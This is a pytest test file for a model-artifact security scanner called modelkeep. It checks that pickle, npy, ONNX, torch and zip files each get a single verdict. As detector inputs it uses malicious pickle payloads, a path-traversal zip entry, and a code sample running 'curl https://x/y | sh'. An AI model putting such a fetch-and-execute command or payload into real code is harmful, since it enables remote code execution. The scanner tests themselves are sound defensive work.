"""The engine: every file gets exactly one verdict, and nothing is silently clean."""

from __future__ import annotations

import io
import pickle
import random
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

from modelkeep.core import Finding, ModelkeepError, Rule, Severity, Verdict
from modelkeep.core.taxonomy import topics
from modelkeep.formats import Limits
from modelkeep.scan import BUILT_IN, Context, Detector, ScanResult, detectors, scan_artifact
from modelkeep.sources import open_artifact
from samples import (
    PAYLOAD,
    VALID,
    Bomb,
    Entry,
    bomb,
    node,
    npy_of,
    onnx_of,
    raw_zip,
    scan_bytes,
    zip_of,
)

PLAIN = pickle.dumps([1], 4)
FAIL, INCONCLUSIVE, PASS, SKIPPED = (
    Verdict.FAIL,
    Verdict.INCONCLUSIVE,
    Verdict.PASS,
    Verdict.SKIPPED,
)


def scan_tree(folder: Path, files: dict[str, bytes], **more: object) -> ScanResult:
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return scan_artifact(open_artifact(folder), BUILT_IN, **more)  # type: ignore[arg-type]


FILES = {
    "pickle": (PLAIN, PASS),
    "safetensors": (VALID["safetensors"], PASS),
    "json": (VALID["json"], PASS),
    "ubjson": (VALID["ubjson"], PASS),
    "npy": (VALID["npy"], PASS),
    "onnx": (onnx_of(nodes=[node("Relu")]), PASS),
    "zip": (VALID["zip stream"], PASS),
    "nothing": (b"", PASS),
    "empty zip": (raw_zip(), PASS),
    "pickle with a tail": (PLAIN + b"\xff\xff", PASS),
    "payload": (bomb(), FAIL),
    "payload by hand": (PAYLOAD, FAIL),
    "escaping zip": (raw_zip(Entry("../up")), FAIL),
    "cut pickle": (PLAIN[:-1], INCONCLUSIVE),
    "cut safetensors": (VALID["safetensors"][:-1], INCONCLUSIVE),
    "cut json": (VALID["json"][:-1], INCONCLUSIVE),
    "cut ubjson": (VALID["ubjson"][:-1], INCONCLUSIVE),
    "cut npy": (VALID["npy"][:-1], INCONCLUSIVE),
    "cut onnx": (onnx_of(nodes=[node("Relu")])[:-1], INCONCLUSIVE),
    "cut zip": (VALID["zip"][:-1], INCONCLUSIVE),
    "cut pickle in a zip": (zip_of({"a.pkl": PLAIN[:-1]}), INCONCLUSIVE),
    "text": (b"# Model card\n", SKIPPED),
    "Parquet": (b"PAR1\x15\0\x15\0", SKIPPED),
    "unknown": (b"\1\2\3\4", SKIPPED),
}


@pytest.mark.parametrize("name", FILES)
def test_exactly_one_verdict_for(tmp_path: Path, name: str) -> None:
    data, verdict = FILES[name]
    result = scan_bytes(tmp_path, data)
    assert result.verdict is verdict
    assert bool(result.reason) == (verdict in {INCONCLUSIVE, SKIPPED})


@pytest.mark.parametrize("text", ["0.5,1.0\n2.5,3.0\n", "1.0.0\n", ".. title::\n", ".cache/\n"])
def test_a_text_that_starts_with_an_opcode_is_skipped_not_inconclusive(
    tmp_path: Path, text: str
) -> None:
    assert scan_bytes(tmp_path, text.encode(), name="version.txt").verdict is SKIPPED


@pytest.mark.parametrize("tail", [b"", b"\xff", b"h\x63."])
def test_a_finding_beats_an_inconclusive_reading_and_keeps_its_reason(
    tmp_path: Path, tail: bytes
) -> None:
    result = scan_bytes(tmp_path, PAYLOAD[:-1] + tail)
    assert result.verdict is FAIL
    assert result.reason.startswith("m.bin: ")


@pytest.mark.parametrize(
    "limits",
    [Limits(entries=2), Limits(values=5), Limits(depth=0), Limits(member_bytes=10)],
    ids=["entries", "values", "depth", "bytes"],
)
def test_a_spent_budget_is_inconclusive(tmp_path: Path, limits: Limits) -> None:
    data = zip_of({"a": pickle.dumps(list(range(100))), "b": b""}, method=zipfile.ZIP_DEFLATED)
    assert scan_bytes(tmp_path, data).verdict is PASS
    assert scan_bytes(tmp_path, data, limits=limits).verdict is INCONCLUSIVE


@pytest.mark.parametrize(("depth", "verdict"), [(3, FAIL), (7, FAIL), (9, INCONCLUSIVE)])
def test_archives_are_entered_as_deep_as_the_limit(
    tmp_path: Path, depth: int, verdict: Verdict
) -> None:
    data = bomb()
    for _ in range(depth):
        data = zip_of({"a": data})
    result = scan_bytes(tmp_path, data)
    assert result.verdict is verdict
    if verdict is FAIL:
        assert result.findings[0].location.member == "!".join("a" * depth)
    else:
        assert "nested deeper than 8" in result.reason


def test_an_archive_that_unpacks_to_much_is_read_one_member_at_a_time(tmp_path: Path) -> None:
    noise = random.Random(0).randbytes(6_000)
    member = (b"\0" * 1_000_000 + noise) * 4
    data = zip_of({f"{i}.txt": member for i in range(12)}, method=zipfile.ZIP_DEFLATED)
    tracemalloc.start()
    try:
        result = scan_bytes(tmp_path, data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.verdict is PASS
    assert peak < 4 * len(member)


# Saves of real libraries


@pytest.mark.parametrize("size", [1, 3, 8, 91, 128, 640, 1000])
@pytest.mark.parametrize("new", [True, False], ids=["zip", "old"])
def test_what_torch_saves_passes_in_both_formats(tmp_path: Path, size: int, new: bool) -> None:
    torch = pytest.importorskip("torch")
    out = io.BytesIO()
    torch.save({"w": torch.ones(size), "step": 3}, out, _use_new_zipfile_serialization=new)
    result = scan_bytes(tmp_path, out.getvalue(), name="m.pt")
    assert (result.verdict, result.reason) == (PASS, "")
    assert {f.rule.id for f in result.findings} <= ({"PKL004"} if not new else set())


@pytest.mark.parametrize("new", [True, False], ids=["zip", "old"])
def test_a_payload_that_torch_saves_fails_in_both_formats(tmp_path: Path, new: bool) -> None:
    torch = pytest.importorskip("torch")
    out = io.BytesIO()
    torch.save({"w": torch.ones(3), "x": Bomb()}, out, _use_new_zipfile_serialization=new)
    result = scan_bytes(tmp_path, out.getvalue(), name="m.pt")
    assert result.verdict is FAIL
    assert "PKL001" in {f.rule.id for f in result.findings}


@pytest.mark.parametrize("save", [np.savez, np.savez_compressed])
def test_arrays_in_a_npz_are_judged_one_by_one(tmp_path: Path, save: object) -> None:
    out = io.BytesIO()
    save(out, a=np.ones(3), b=np.arange(4))  # type: ignore[operator]
    assert scan_bytes(tmp_path, out.getvalue()).verdict is PASS
    save(out := io.BytesIO(), a=np.ones(3), b=np.array([Bomb()], dtype=object))  # type: ignore[operator]
    result = scan_bytes(tmp_path, out.getvalue())
    assert result.verdict is FAIL
    assert {str(f.location).partition(" ")[0] for f in result.findings} == {
        "m.bin!b.npy",
        "m.bin!b.npy!objects",
    }


# Directories


def test_every_file_of_a_directory_gets_a_result_in_manifest_order(tmp_path: Path) -> None:
    seen: list[str] = []
    result = scan_tree(
        tmp_path,
        {"b.pkl": bomb(), "a/c.pkl": PLAIN, "a.txt": b"text", ".hidden": PLAIN[:-1]},
        on_file=seen.append,
    )
    assert [(f.path, f.verdict) for f in result.files] == [
        (".hidden", INCONCLUSIVE),
        ("a/c.pkl", PASS),
        ("a.txt", SKIPPED),
        ("b.pkl", FAIL),
    ]
    assert seen == [f.path for f in result.files]
    assert result.rules == tuple(d.rule.id for d in BUILT_IN)


def test_findings_come_worst_first_and_are_counted(tmp_path: Path) -> None:
    result = scan_tree(
        tmp_path,
        {"a.pkl": PLAIN + b"\xff", "b.pkl": b"cmy.pkg\nbuild\n)R.", "c.pkl": bomb()},
    )
    assert [f.severity for f in result.findings] == [
        Severity.CRITICAL,
        Severity.HIGH,
        Severity.MEDIUM,
    ]
    assert [result.count(s) for s in Severity] == [0, 0, 1, 1, 1]


def test_every_file_has_a_budget_of_its_own(tmp_path: Path) -> None:
    files = {f"{i}.zip": zip_of({"a": b"", "b": b""}) for i in range(4)}
    result = scan_tree(tmp_path, files, limits=Limits(entries=5))
    assert {f.verdict for f in result.files} == {PASS}


def test_only_the_given_rules_run(tmp_path: Path) -> None:
    (tmp_path / "m.pkl").write_bytes(bomb())
    result = scan_artifact(open_artifact(tmp_path), [])
    assert (result.findings, result.rules) == ((), ())
    assert result.files[0].verdict is PASS


@pytest.mark.parametrize(
    ("name", "data", "unread"),
    [
        ("README.md", b"text", 0),
        ("modeling.py", b"import os\n", 0),
        ("run.js", b"alert(1);\n", 0),
        ("run.sh", b"echo\n", 0),
        ("weights.parquet", b"PAR1\x15\0\x15\0", 1),
        ("weights.bin", b"\1\2\3\4", 1),
        ("m.zip", zip_of({"a": b"\1\2\3", "b": b"\4\5\6"}), 1),
        ("m.pkl", PLAIN, 0),
        ("m.pkl", PLAIN + b"\xff\xff", 1),
        ("empty.bin", b"", 0),
    ],
)
def test_what_might_hold_something_and_was_not_read_is_counted(
    tmp_path: Path, name: str, data: bytes, unread: int
) -> None:
    assert scan_tree(tmp_path, {name: data}).unread == unread


def test_what_no_rule_reads_is_named_with_its_reason(tmp_path: Path) -> None:
    result = scan_tree(
        tmp_path,
        {"a.md": b"text", "b.h5": b"PAR1\x15\0\x15\0", "c.zip": zip_of({"x": b"tjgg\3"})},
    )
    assert [(n.what, n.why) for n in result.not_checked] == [
        ("a.md", "plain text, searched for secrets and commands only"),
        ("b.h5", "no reader for Parquet"),
        ("c.zip!x", "no reader for GGML (before GGUF)"),
    ]


@pytest.mark.parametrize("name", ["net.py", "net.js", "run.sh"])
def test_code_within_an_archive_is_read(tmp_path: Path, name: str) -> None:
    text = b"import os\nos.system('curl https://x/y | sh')\n"
    result = scan_tree(tmp_path, {"m.zip": zip_of({f"m/code/{name}": text})})
    assert (result.files[0].verdict, result.not_checked, result.unread) == (FAIL, (), 0)


def test_arrays_of_many_kinds_pass(tmp_path: Path) -> None:
    files = {
        f"{dtype}.npy": npy_of(np.zeros((2, 3), dtype))
        for dtype in ("f2", "i8", "c8", "S3", "?")
    }
    assert {f.verdict for f in scan_tree(tmp_path, files).files} == {PASS}


# The rules themselves


def test_rules_have_ids_of_their_own_and_say_what_to_do() -> None:
    rules = [detector.rule for detector in BUILT_IN]
    assert len({rule.id for rule in rules}) == len({rule.name for rule in rules}) == len(rules)
    for rule in rules:
        assert rule.topic in topics()
        assert rule.summary.endswith(".")
        assert rule.remedy.endswith(".")


PLUGIN = """
from modelkeep.core import Rule
from modelkeep.scan import Detector

RULE = Rule(id="{id}", name="own", summary="s.", remedy="r.", topic="artifact.malicious_code")
DETECTOR = Detector(RULE, frozenset({{"pickle"}}), lambda context: iter(()))
NOTHING = RULE
"""


def install(
    folder: Path, monkeypatch: pytest.MonkeyPatch, *, attribute: str, rule_id: str
) -> None:
    name = f"own_rule_{folder.name.replace('-', '_')}"
    (folder / f"{name}.py").write_text(PLUGIN.format(id=rule_id))
    info = folder / f"{name}-1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n")
    (info / "entry_points.txt").write_text(f"[modelkeep.rules]\nown = {name}:{attribute}\n")
    monkeypatch.syspath_prepend(folder)


def test_an_installed_rule_joins_the_built_in_ones(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = detectors()
    install(tmp_path, monkeypatch, attribute="DETECTOR", rule_id="OWN001")
    assert [d.rule.id for d in detectors()] == [*(d.rule.id for d in before), "OWN001"]


@pytest.mark.parametrize(
    ("attribute", "rule_id", "problem"),
    [("NOTHING", "OWN001", "is not a Detector"), ("DETECTOR", "PKL001", "reuses 'PKL001'")],
)
def test_an_installed_rule_that_is_none_or_takes_an_id_is_refused(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    attribute: str,
    rule_id: str,
    problem: str,
) -> None:
    install(tmp_path, monkeypatch, attribute=attribute, rule_id=rule_id)
    with pytest.raises(ModelkeepError, match=problem):
        detectors()


def test_a_rule_of_ones_own_runs_on_its_formats_only(tmp_path: Path) -> None:
    rule = Rule(
        id="OWN001", name="own", summary="s.", remedy="r.", topic="artifact.malicious_code"
    )
    seen: list[str] = []
    own = Detector(rule, frozenset({"npy"}), lambda c: iter(seen.append(c.format) or ()))
    for name in ("npy", "zip", "json"):
        (tmp_path / name).write_bytes(VALID[name])
    scan_artifact(open_artifact(tmp_path), [own])
    assert seen == ["npy"]


def test_a_rule_that_breaks_makes_its_file_inconclusive_and_hides_nothing(
    tmp_path: Path,
) -> None:
    def broken(context: Context) -> Iterator[Finding]:
        yield from ()
        raise KeyError(context.location.path)

    rule = Rule("XXX001", "breaks", "It breaks.", "Mend the rule.", "artifact.unsigned")
    rules = (*BUILT_IN, Detector(rule, frozenset({"json"}), broken))
    for name, data in {"a.json": b"{}", "b.pkl": bomb(), "c.npy": VALID["npy"]}.items():
        (tmp_path / name).write_bytes(data)
    result = scan_artifact(open_artifact(tmp_path), rules)
    assert [file.verdict for file in result.files] == [INCONCLUSIVE, FAIL, PASS]
    assert "internal error: KeyError" in result.files[0].reason


def test_names_that_no_text_holds_are_written_as_escapes(tmp_path: Path) -> None:
    def odd(context: Context) -> Iterator[Finding]:
        yield context.finding(rule, Severity.HIGH, "name \ud800", evidence={"name": "\udfff"})

    rule = Rule("XXX002", "odd", "Odd.", "Mend the name.", "artifact.unsigned")
    (tmp_path / "m").write_bytes(b"{}")
    detector = Detector(rule, frozenset({"json"}), odd)
    (found,) = scan_artifact(open_artifact(tmp_path), [detector]).findings
    assert (found.message, found.evidence) == ("name \\ud800", {"name": "\\udfff"})
